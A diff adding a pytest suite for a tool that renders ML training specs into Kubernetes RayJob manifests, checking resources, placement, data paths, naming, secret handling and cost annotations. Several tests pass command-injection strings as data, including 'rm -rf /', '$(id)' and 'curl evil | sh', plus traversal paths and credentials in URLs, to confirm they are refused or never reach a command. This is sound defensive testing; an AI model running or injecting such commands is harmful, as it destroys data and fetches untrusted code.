@@ -1,0 +1,527 @@
+"""`tutelage render`: what becomes of a spec, and what is refused before anything is written."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import manifest_checks as checks
+import pytest
+import yaml
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from runner.cli import main
+from runner.errors import EngineError, SpecError, UserError
+from runner.plan import ACCELERATORS
+from runner.render import Wish, render
+from runner.render.clouds import CLOUDS, lack, placement
+from runner.render.groups import PER_GPU
+from runner.render.manifest import RAY_VERSION
+from runner.render.names import LONGEST, kubernetes_name
+from runner.render.yaml_text import to_yaml
+from runner.spec import Spec, load_spec
+
+GOOD = sorted((checks.ROOT / "tests" / "specs" / "good").glob("*.yaml"))
+SHIPPED = sorted((checks.ROOT / "specs").glob("*.yaml"))
+SPEC = """\
+version: 1
+name: {name}
+task: {{labels: [a, b]}}
+data:
+  train: {{path: train.csv, text: text}}
+  test: {{path: test.csv, text: text, label: label}}
+teacher: {teacher}
+student: {student}
+"""
+VLLM = "{model: org/teacher, resources: {accelerator: H100, gpus: 2, replicas: [2, 5]}}"
+T4 = "{resources: {accelerator: T4, gpus: 1, workers: 3}}"
+
+
+@pytest.fixture
+def write(tmp_path: Path) -> Any:
+    def write(teacher: str = VLLM, student: str = T4, name: str = "small", more: str = "") -> Spec:
+        path = tmp_path / "spec.yaml"
+        path.write_text(SPEC.format(name=name, teacher=teacher, student=student) + more, encoding="utf-8")
+        return load_spec(path)
+
+    return write
+
+
+def job_of(spec: Spec, **wish: Any) -> dict[str, Any]:
+    found: dict[str, Any] = render(spec, Wish(**wish)).objects[1]
+    return found
+
+
+def groups(job: dict[str, Any]) -> dict[str, dict[str, Any]]:
+    return {group["groupName"]: group for group in job["spec"]["rayClusterSpec"]["workerGroupSpecs"]}
+
+
+def container(group: dict[str, Any]) -> dict[str, Any]:
+    found: dict[str, Any] = group["template"]["spec"]["containers"][0]
+    return found
+
+
+def test_the_groups_follow_the_resources_of_the_spec(write: Any) -> None:
+    job = job_of(write(), cloud="gke")
+    teacher, student = groups(job).values()
+    assert (teacher["groupName"], teacher["replicas"], teacher["minReplicas"], teacher["maxReplicas"]) == (
+        "teacher",
+        2,
+        0,
+        5,
+    )
+    assert (student["groupName"], student["replicas"], student["minReplicas"], student["maxReplicas"]) == (
+        "student",
+        0,
+        0,
+        3,
+    )
+    assert container(teacher)["resources"]["limits"]["nvidia.com/gpu"] == "2"
+    assert container(student)["resources"]["limits"]["nvidia.com/gpu"] == "1"
+    assert teacher["template"]["spec"]["nodeSelector"] == {"cloud.google.com/gke-accelerator": "nvidia-h100-80gb"}
+    assert student["template"]["spec"]["nodeSelector"] == {"cloud.google.com/gke-accelerator": "nvidia-tesla-t4"}
+    assert job["spec"]["rayClusterSpec"]["headGroupSpec"]["rayStartParams"]["num-cpus"] == "0"
+
+
+@pytest.mark.parametrize(
+    "teacher",
+    [
+        "{engine: noop, model: none}",
+        "{engine: recorded, model: people, columns: [anna]}",
+        "{model: org/teacher, endpoint: 'http://llm.internal:8000/v1', resources: {cpus: 12}}",
+    ],
+)
+def test_a_teacher_that_runs_elsewhere_or_nowhere_has_no_pods(write: Any, teacher: str) -> None:
+    rendered = render(write(teacher), Wish(cloud="eks"))
+    job = rendered.objects[1]
+    assert any("http://llm.internal:8000/v1: the teacher's server" in need for need in rendered.needs) == (
+        "endpoint" in teacher
+    )
+    assert list(groups(job)) == ["student"]
+    assert groups(job)["student"]["replicas"] == 3  # nothing comes before them
+
+
+def test_the_callers_of_a_server_fit_into_the_students_pods(write: Any) -> None:
+    teacher = "{model: org/teacher, endpoint: 'http://llm.internal:8000/v1', resources: {cpus: 12}}"
+    student = groups(job_of(write(teacher)))["student"]
+    assert student["rayStartParams"]["num-cpus"] == "12"
+    assert int(container(student)["resources"]["limits"]["cpu"]) >= 12
+
+
+def test_one_embedded_teacher_among_several_has_pods(write: Any) -> None:
+    teacher = "{model: org/teacher, also: [{model: org/other, endpoint: 'http://llm.internal:8000/v1'}]}"
+    assert list(groups(job_of(write(teacher)))) == ["teacher", "student"]
+
+
+def test_without_gpus_nothing_asks_for_a_gpu_or_a_node_of_its_own(write: Any) -> None:
+    job = job_of(write("{model: org/teacher, resources: {cpus: 3}}", "{}"))
+    for group in groups(job).values():
+        assert "nvidia.com/gpu" not in container(group)["resources"]["limits"]
+        assert {"nodeSelector", "affinity", "tolerations"} & set(group["template"]["spec"]) == set()
+        assert group["rayStartParams"]["num-gpus"] == "0" and "resources" not in group["rayStartParams"]
+    assert groups(job)["teacher"]["rayStartParams"]["num-cpus"] == "3"
+    assert {container(group)["image"] for group in groups(job).values()} == {"tutelage:cpu"}
+
+
+def test_the_spec_in_the_cluster_asks_for_the_cores_that_its_pods_have(write: Any, tmp_path: Path) -> None:
+    rendered = render(write(student="{}"), Wish())
+    inside = reloaded(rendered.objects[0], tmp_path)
+    job = rendered.objects[1]
+    assert str(inside.teacher.resources.cpus) == groups(job)["teacher"]["rayStartParams"]["num-cpus"]
+    assert str(inside.student.resources.cpus) == groups(job)["student"]["rayStartParams"]["num-cpus"]
+
+
+def reloaded(config_map: dict[str, Any], folder: Path) -> Spec:
+    inside = folder / "inside"
+    inside.mkdir(exist_ok=True)
+    for name, text in config_map["data"].items():
+        (inside / name).write_text(text, encoding="utf-8")
+    return load_spec(inside / "spec.yaml")
+
+
+@pytest.mark.parametrize("path", [*SHIPPED, *GOOD], ids=lambda path: path.stem)
+def test_the_spec_in_the_config_map_is_the_same_job(path: Path, tmp_path: Path) -> None:
+    """But for where its data lie and for the cores written out."""
+    spec = load_spec(path, ["student.model=org/student"])
+    spec = replace(spec, benchmark=replace(spec.benchmark, prices=None))  # the example's table does not exist
+    inside = reloaded(render(spec, Wish(data_dir="s3://bucket/data")).objects[0], tmp_path)
+    before, after = spec.to_dict(), inside.to_dict()
+    for one in (before, after):
+        one["teacher"]["resources"].pop("cpus")
+        one["student"]["resources"].pop("cpus")
+        paths = [one["data"]["train"], one["data"]["test"], *one["evaluate"]["compare"].values()]
+        paths += [one["data"]["corpus"]] * bool(one["data"]["corpus"])
+        for source in paths:
+            source.pop("path")
+        if isinstance(one["task"]["examples"], dict):
+            one["task"]["examples"].pop("from")
+    assert after == before
+
+
+@pytest.mark.parametrize("text", ["a\tb", "'\"\\", "- a\n#b: {c}\n\n d", "1e3", "null", "${HOME} $(id)"])
+def test_any_text_of_a_spec_arrives(write: Any, tmp_path: Path, text: str) -> None:
+    spec = write()
+    spec = replace(spec, task=replace(spec.task, instructions=text))
+    assert reloaded(render(spec, Wish()).objects[0], tmp_path).task.instructions == text
+
+
+@pytest.mark.parametrize(
+    ("written", "data_dir", "place"),
+    [
+        ("train.csv", "/mnt/tutelage/data", "/mnt/tutelage/data/train.csv"),
+        ("./a/../b/*.csv", "/mnt/tutelage/data/", "/mnt/tutelage/data/b/*.csv"),
+        ("${TUTELAGE_DATA}/x/train.csv", "s3://bucket/data", "s3://bucket/data/x/train.csv"),
+        ("gs://other/train.csv", "s3://bucket/data", "gs://other/train.csv"),
+        ("/mnt/tutelage/else/train.csv", "s3://bucket/data", "/mnt/tutelage/else/train.csv"),
+    ],
+)
+def test_data_lie_where_the_pods_reach_them(
+    write: Any, tmp_path: Path, written: str, data_dir: str, place: str
+) -> None:
+    spec = write()
+    spec = replace(spec, data=replace(spec.data, train=replace(spec.data.train, path=written)))
+    rendered = render(spec, Wish(data_dir=data_dir))
+    assert reloaded(rendered.objects[0], tmp_path).data.train.path == place
+    assert any(need.startswith(f"{place}: ") for need in rendered.needs) == (place != written or "://" not in place)
+
+
+@pytest.mark.parametrize(
+    ("written", "said"),
+    [
+        ("/home/me/train.csv", "no pod sees it: put it on shared storage"),
+        ("/mnt/tutelage/../../home/me/train.csv", "no pod sees it"),
+        ("../train.csv", "leads out of the spec's folder"),
+        ("${TUTELAGE_DATA}/../train.csv", "leads out"),
+        ("${TUTELAGE_DATA}/test.csv", "would be one file in the cluster"),
+        ("s3://me:canary@bucket/train.csv", "no user or password may stand in a manifest"),
+    ],
+)
+def test_data_that_no_pod_would_reach_are_an_error_with_the_line(write: Any, written: str, said: str) -> None:
+    spec = write()
+    spec = replace(spec, data=replace(spec.data, train=replace(spec.data.train, path=written)))
+    with pytest.raises(SpecError, match=re.escape(said)) as caught:
+        render(spec, Wish())
+    assert re.search(r"spec\.yaml:[56]:\d+: data\.", str(caught.value))
+    assert "canary" not in str(caught.value)
+
+
+def test_a_hub_data_set_and_a_pinned_model_are_named_among_the_needs(write: Any) -> None:
+    spec = write("{model: org/teacher, revision: abc}")
+    spec = replace(spec, data=replace(spec.data, train=replace(spec.data.train, path="org/rows", format="hub")))
+    needs = render(spec, Wish()).needs
+    assert any(need.startswith("org/rows: this data set") for need in needs)
+    assert "pull org/teacher (revision abc) FacebookAI/roberta-base`" in needs[-1]
+
+
+@pytest.mark.parametrize("model", ["./models/mine", "/home/me/model", "~/model"])
+def test_a_model_that_is_a_folder_here_is_an_error(write: Any, model: str) -> None:
+    with pytest.raises(SpecError, match=r"student\.model: .* is a folder on this machine"):
+        render(write(student=f"{{model: {model}}}"), Wish())
+
+
+def test_a_model_that_is_a_folder_of_the_volume_is_fine(write: Any) -> None:
+    teacher = VLLM.replace("org/teacher", "/mnt/tutelage/theirs")
+    needs = render(write(teacher, "{model: /mnt/tutelage/mine}"), Wish()).needs
+    assert needs[-2:] == ("/mnt/tutelage/theirs: the model's folder", "/mnt/tutelage/mine: the model's folder")
+
+
+def test_a_teacher_that_does_not_fit_into_its_gpus_is_said_before_they_are_paid_for() -> None:
+    path = checks.ROOT / "specs" / "financial-sentiment.yaml"
+    with pytest.raises(EngineError, match="does not fit"):
+        render(load_spec(path, ["teacher.resources.gpus=1"]), Wish(cloud="gke"))
+
+
+def test_a_price_table_goes_along(write: Any, tmp_path: Path) -> None:
+    table = checks.ROOT / "runner" / "spec" / "prices.yaml"
+    (tmp_path / "mine.yaml").write_bytes(table.read_bytes())
+    rendered = render(write(more="benchmark: {prices: mine.yaml}\n"), Wish())
+    assert rendered.objects[0]["data"]["prices.yaml"] == table.read_text(encoding="utf-8")
+    assert reloaded(rendered.objects[0], tmp_path).benchmark.prices == "prices.yaml"
+
+
+def test_a_spec_that_no_config_map_holds_is_an_error(write: Any) -> None:
+    spec = write()
+    spec = replace(spec, task=replace(spec.task, instructions="x" * 1_000_000))
+    with pytest.raises(UserError, match="a ConfigMap holds"):
+        render(spec, Wish())
+
+
+@pytest.mark.parametrize("cloud", CLOUDS)
+@pytest.mark.parametrize("accelerator", [name for name in PER_GPU if name])
+def test_an_accelerator_is_placed_or_refused_with_what_there_is(cloud: str, accelerator: str) -> None:
+    one = CLOUDS[cloud]
+    if accelerator in one.nodes:
+        assert lack(one, accelerator, 1) is None
+        placed = placement(one, accelerator, 1)
+        assert ("nodeSelector" in placed) != ("affinity" in placed)
+        assert {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"} in placed["tolerations"]
+    else:
+        field, message = lack(one, accelerator, 1) or ("", "")
+        assert field == "accelerator" and "T4" in message and "--cloud" in message
+
+
+def test_every_accelerator_that_the_plan_knows_has_a_size_and_a_cloud() -> None:
+    sizes = {name for name in PER_GPU if name}
+    assert sizes == set(ACCELERATORS) == {name for cloud in CLOUDS.values() for name in cloud.nodes}
+
+
+def test_nodes_with_too_few_gpus_are_left_out() -> None:
+    terms = placement(CLOUDS["eks"], "T4", 2)["affinity"]["nodeAffinity"][
+        "requiredDuringSchedulingIgnoredDuringExecution"
+    ]["nodeSelectorTerms"]
+    assert terms[0]["matchExpressions"][0]["values"] == ["g4dn.12xlarge", "g4dn.metal"]
+
+
+def test_what_the_cloud_lacks_is_said_all_at_once_and_nothing_is_written(
+    write: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write(VLLM.replace("H100", "A10G"), T4.replace("gpus: 1", "gpus: 16"))
+    out = tmp_path / "job.yaml"
+    assert main(["render", str(tmp_path / "spec.yaml"), "--cloud", "gke", "-o", str(out)]) == 2
+    said = capsys.readouterr()
+    assert said.out == "" and not out.exists()
+    assert "spec.yaml:7" in said.err and "'A10G' is known here" in said.err
+    assert "spec.yaml:8" in said.err and "has 16 T4, but 4 at most" in said.err
+
+
+def test_a_file_that_cannot_be_written_is_1(write: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    write()
+    assert main(["render", str(tmp_path / "spec.yaml"), "-o", str(tmp_path / "no" / "job.yaml")]) == 1
+    assert "cannot be written" in capsys.readouterr().err
+
+
+@given(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,99}", fullmatch=True))
+def test_any_name_of_a_spec_becomes_one_that_kubernetes_takes(name: str) -> None:
+    made = kubernetes_name(name)
+    assert re.fullmatch(r"[a-z]([a-z0-9-]*[a-z0-9])?", made) and len(made) <= LONGEST == checks.LONGEST_RAYJOB_NAME
+    assert kubernetes_name(name) == made
+    assert kubernetes_name(made) == made
+
+
+@pytest.mark.parametrize(
+    ("one", "other"), [("a.b", "a-b"), ("Big", "big"), ("a_b", "a.b"), ("x" * 80, "x" * 81), ("1", "run-1"), ("-", "_")]
+)
+def test_two_names_never_become_one(one: str, other: str) -> None:
+    assert kubernetes_name(one) != kubernetes_name(other)
+
+
+def test_a_name_that_is_fine_stays() -> None:
+    assert kubernetes_name("financial-sentiment") == "financial-sentiment"
+    assert kubernetes_name("x" * LONGEST) == "x" * LONGEST
+
+
+@pytest.mark.parametrize("name", ["Fin.Sentiment_2024", "x" * 80, "2024.11", "1e3"])
+def test_a_name_that_kubernetes_refuses_is_rendered_without_a_finding_and_stays_the_run_folders(
+    write: Any, tmp_path: Path, name: str
+) -> None:
+    rendered = render(write(name=f'"{name}"'), Wish(cloud="gke"))
+    config_map, job = yaml.safe_load_all(rendered.yaml)
+    assert checks.core_findings(config_map) + checks.core_findings(job) + checks.operator_findings(job) == []
+    assert job["metadata"]["annotations"]["tutelage/spec-name"] == name
+    assert reloaded(config_map, tmp_path).name == name
+
+
+@pytest.mark.parametrize("name", ["x; rm -rf /", "$(id)", "`id`", "a\\nb", "a b", "../x"])
+def test_a_name_with_a_command_in_it_is_refused_with_its_line(write: Any, name: str) -> None:
+    with pytest.raises(SpecError, match=r"spec\.yaml:2:7: name: "):
+        write(name=f'"{name}"')
+
+
+HOSTILE = "x; rm -rf / $(id) `id` && curl evil | sh #"
+
+
+def test_no_word_of_a_spec_reaches_a_command(tmp_path: Path) -> None:
+    """Its file's name, its labels, texts and column names are data, wherever they end up."""
+    folder = tmp_path / HOSTILE.replace("/", "_")
+    folder.mkdir()
+    path = folder / "x; rm -rf $HOME.yaml"
+    path.write_text(
+        SPEC.format(name="small", teacher=VLLM, student=T4)
+        .replace("[a, b]", f"['{HOSTILE}', b], instructions: '{HOSTILE}'")
+        .replace("text: text", f"text: '{HOSTILE}'"),
+        encoding="utf-8",
+    )
+    config_map, job = render(load_spec(path), Wish()).objects
+    assert job["spec"]["entrypoint"] == (
+        "tutelage run /etc/tutelage/spec.yaml --address auto --runs-dir /mnt/tutelage/runs"
+    )
+    assert "rm -rf" not in to_yaml(job)
+    assert HOSTILE in config_map["data"]["spec.yaml"]
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("runs_dir", "runs"),
+        ("runs_dir", "/home/me/runs"),
+        ("runs_dir", "/mnt/tutelage/../../etc"),
+        ("runs_dir", "/mnt/tutelage-else/runs"),
+        ("runs_dir", "file:///mnt/tutelage/runs"),
+        ("runs_dir", "memory://runs"),
+        ("runs_dir", "s3://"),
+        ("runs_dir", "s3://bucket/$(id)"),
+        ("runs_dir", "/mnt/tutelage/runs; id"),
+        ("runs_dir", "/mnt/tutelage/a b"),
+        ("runs_dir", "s3://bucket/'x'"),
+        ("data_dir", "data"),
+        ("data_dir", "s3://me:canary@bucket/data"),
+        ("runs_dir", "s3://me:canary@bucket/runs"),
+        ("namespace", "Big"),
+        ("namespace", "x" * 64),
+        ("claim", "a_b"),
+        ("secrets", ("hub token",)),
+        ("queue", "a.b"),
+        ("image", "tutelage:gpu; id"),
+        ("gcs_redis", "redis"),
+    ],
+)
+def test_an_option_that_would_fail_later_is_refused_now(option: str, value: Any) -> None:
+    name = {"secrets": "secret"}.get(option, option.replace("_", "-"))
+    with pytest.raises(UserError, match=f"^--{name}[: ]") as caught:
+        Wish(**{option: value})
+    assert "canary" not in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "place", ["s3://bucket/runs", "gs://bucket/a/b", "abfss://box@account/runs", "/mnt/tutelage/r"]
+)
+def test_shared_storage_is_taken(write: Any, place: str) -> None:
+    assert job_of(write(), runs_dir=place)["spec"]["entrypoint"].endswith(f" --runs-dir {place}")
+
+
+def test_a_secret_is_named_and_a_secret_of_the_environment_is_nowhere(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    canary = "canary-5fb1c0de"
+    for name in ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "TUTELAGE_ENDPOINT_TOKEN", "TUTELAGE_DATA", "RAY_AUTH_TOKEN"):
+        monkeypatch.setenv(name, canary)
+    for path in SHIPPED:
+        out = tmp_path / f"{path.stem}.yaml"
+        assert main(["render", str(path), "--cloud", "gke", "--secret", "bucket-keys", "-o", str(out)]) == 0
+        text = out.read_text(encoding="utf-8")
+        said = capsys.readouterr()
+        assert canary not in text + said.out + said.err
+        for group in groups(list(yaml.safe_load_all(text))[1]).values():
+            assert container(group)["envFrom"] == [{"secretRef": {"name": "bucket-keys"}}]
+
+
+def test_the_pods_are_offline_unless_they_may_ask_the_hub(write: Any) -> None:
+    for wish, value in ((Wish(), "1"), (Wish(online=True), "0")):
+        cluster = render(write(), wish).objects[1]["spec"]["rayClusterSpec"]
+        for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]):
+            assert {"name": "HF_HUB_OFFLINE", "value": value} in container(group)["env"]
+
+
+def test_only_the_autoscaler_gets_a_token_of_the_cluster(write: Any) -> None:
+    cluster = job_of(write())["spec"]["rayClusterSpec"]
+    head = cluster["headGroupSpec"]["template"]["spec"]
+    (token,) = [volume["name"] for volume in head["volumes"] if "projected" in volume]
+    assert token in [mount["name"] for mount in cluster["autoscalerOptions"]["volumeMounts"]]
+    assert token not in [mount["name"] for mount in head["containers"][0]["volumeMounts"]]
+    for group in cluster["workerGroupSpecs"]:
+        assert not [volume for volume in group["template"]["spec"]["volumes"] if "projected" in volume]
+
+
+def test_the_cluster_asks_for_a_token_and_shows_itself_to_nobody_outside(write: Any) -> None:
+    cluster = job_of(write())["spec"]["rayClusterSpec"]
+    assert cluster["authOptions"] == {"mode": "token"}
+    assert cluster["headGroupSpec"]["serviceType"] == "ClusterIP"
+    assert cluster["headGroupSpec"]["enableIngress"] is False
+
+
+def test_in_a_queue_the_job_waits_and_has_one_size(write: Any) -> None:
+    job = job_of(write(), queue="research")
+    assert job["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "research"
+    assert job["spec"]["suspend"] is True and job["spec"]["shutdownAfterJobFinishes"] is True
+    cluster = job["spec"]["rayClusterSpec"]
+    assert cluster["enableInTreeAutoscaling"] is False and "autoscalerOptions" not in cluster
+    for name, count in (("teacher", 2), ("student", 3)):
+        group = groups(job)[name]
+        assert {group[key] for key in ("replicas", "minReplicas", "maxReplicas")} == {count}
+    assert "suspend" not in job_of(write())["spec"]
+
+
+def test_deadline_and_retries_are_the_wish(write: Any) -> None:
+    spec = job_of(write(), hours=5, retries=0)["spec"]
+    assert (spec["activeDeadlineSeconds"], spec["backoffLimit"]) == (5 * 3600, 0)
+
+
+def test_redis_keeps_the_state_of_the_cluster_with_its_password_by_reference(write: Any) -> None:
+    options = job_of(write(), gcs_redis="redis:6379", secrets=("keys",))["spec"]["rayClusterSpec"][
+        "gcsFaultToleranceOptions"
+    ]
+    assert (options["backend"], options["redisAddress"]) == ("redis", "redis:6379")
+    assert options["redisPassword"]["valueFrom"]["secretKeyRef"]["name"] == "keys"
+    assert "gcsFaultToleranceOptions" not in job_of(write())["spec"]["rayClusterSpec"]
+
+
+def test_the_cost_is_that_of_all_pods_until_the_deadline(write: Any) -> None:
+    teacher = VLLM.replace("{model", "{price_per_hour: 8, model")
+    cost = job_of(write(teacher, more="benchmark: {price_per_hour: 0.5}\n"), hours=10)["metadata"]["annotations"][
+        "tutelage/cost"
+    ]
+    assert "USD 41.50 an hour (teacher 40.00, student 1.50" in cost  # 5 x 8 and 3 x 0.5
+    assert "USD 415.00 until the deadline of 10 h" in cost
+
+
+def test_a_cost_that_is_not_known_is_said(write: Any) -> None:
+    cost = job_of(write())["metadata"]["annotations"]["tutelage/cost"]
+    assert "teacher unknown: teacher.price_per_hour is not set" in cost
+
+
+def test_the_plan_is_noted_where_it_is_asked_for(capsys: pytest.CaptureFixture[str]) -> None:
+    path = str(checks.ROOT / "specs" / "quickstart.yaml")
+    assert main(["render", path, "--plan", "--set", "teacher.price_per_hour=1"]) == 0
+    _, job = yaml.safe_load_all(capsys.readouterr().out)
+    assert re.fullmatch(
+        r"teacher about [\d:]+ \(rough, from arithmetic\), USD [\d.]+; student about .*, USD [\d.]+",
+        job["metadata"]["annotations"]["tutelage/plan"],
+    )
+
+
+def test_a_plan_without_the_data_says_what_is_missing(write: Any) -> None:
+    with pytest.raises(SpecError, match="there is no file"):
+        render(write(), Wish(), with_plan=True)
+
+
+def test_rendering_twice_gives_the_same_bytes(write: Any) -> None:
+    assert render(write(), Wish()).yaml == render(write(), Wish()).yaml
+
+
+def test_rays_version_is_the_locked_one() -> None:
+    lock = (checks.ROOT / "requirements.lock").read_text(encoding="utf-8").splitlines()
+    assert f"ray=={RAY_VERSION}" in lock
+
+
+PLAIN = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
+    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
+    max_leaves=20,
+)
+
+
+@given(PLAIN)
+@example("A\x85")
+@example("a\n\u2028b")
+def test_yaml_reads_back_as_what_it_was(data: Any) -> None:
+    assert yaml.safe_load(to_yaml(data)) == data
+
+
+TEXTS = [
+    "1e3", "y", "N", "on", "null", "~", "0o17", "0x1f", "12:30", "1_000", ".inf", "2024-11-22", "=", "<<", "a: b",
+    "# a", " a", "a ", "a\n\n b\n", "a\tb\n", "- a", "'a'", '"a"', "{a}", "%a", "@a", "é", "a\u2028b", "\\n", "",
+]  # fmt: skip
+
+
+def test_kubernetes_reads_what_we_wrote(tmp_path: Path) -> None:
+    """Go reads YAML by other rules than Python: the real kubectl has to find the same texts."""
+    data = {f"key-{number}": text for number, text in enumerate(TEXTS)}
+    thing = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x", "annotations": data}, "data": data}
+    (tmp_path / "thing.yaml").write_text(to_yaml(thing), encoding="utf-8")
+    (tmp_path / "kustomization.yaml").write_text("resources: [thing.yaml]\n", encoding="utf-8")
+    (found,) = checks.kustomize(tmp_path, yaml.BaseLoader)  # it writes what PyYAML would not: `<<`, unquoted
+    assert found["data"] == data
+    assert found["metadata"]["annotations"] == data
